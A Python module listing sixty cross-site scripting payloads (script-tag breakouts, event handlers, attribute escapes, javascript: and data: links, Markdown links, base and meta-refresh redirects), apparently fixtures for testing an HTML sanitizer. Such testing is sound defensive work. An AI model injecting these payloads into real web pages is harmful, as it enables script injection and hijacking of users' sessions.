"""Sixty texts that run as script where a page writes one of them down as it is."""

RUN = "alert(1)"
OPENED = [
    f"<script>{RUN}</script>", f"<ScRiPt >{RUN}</sCrIpT>", f"<script src=data:,{RUN}></script>",
    f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>", f"</script><script>{RUN}</script>",
    f"</option></select><script>{RUN}</script>", f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>", f"</noscript><script>{RUN}</script>",
    f"<script\n>{RUN}</script\n>",
]  # fmt: skip
HANDLERS = [
    f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>", f"<body onload={RUN}>", f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>", f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>", f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object>", f"<embed src='javascript:{RUN}'>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<a onmouseover={RUN}>over</a>",
    f"<button onclick={RUN}>here</button>", f"<select onfocus={RUN} autofocus></select>",
    f"<style onload={RUN}></style>", f"<math><mtext></mtext><script>{RUN}</script></math>",
    f"<svg><script>{RUN}</script></svg>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
]  # fmt: skip
ATTRIBUTES = [
    f'" onmouseover="{RUN}', f"' onmouseover='{RUN}", f'" autofocus onfocus="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='", f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"` onmouseover=`{RUN}", f'" style="background:url(javascript:{RUN})',
]  # fmt: skip
LINKS = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"\x01javascript:{RUN}",
    f" javascript:{RUN}", f"data:text/html,<script>{RUN}</script>", f"vbscript:{RUN}",
    f"javascript://x.example/%0a{RUN}", f"//x.example/?<script>{RUN}</script>",
]  # fmt: skip
MARKED = [
    f"[x](javascript:{RUN})", f"![x](javascript:{RUN})", f"[x]: javascript:{RUN}\n\n[x]",
    f"<javascript:{RUN}>", f'[x](https://x.example "\\" onmouseover={RUN}")',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[x](&#x6a;avascript:{RUN})", f"```\n</code><script>{RUN}</script>\n```",
]  # fmt: skip
OTHERS = [
    "<base href=//x.example>", "<meta http-equiv=refresh content=0;url=//x.example>",
    "<form action=//x.example><button>Send</button></form>",
]  # fmt: skip
PAYLOADS = [*OPENED, *HANDLERS, *ATTRIBUTES, *LINKS, *MARKED, *OTHERS]
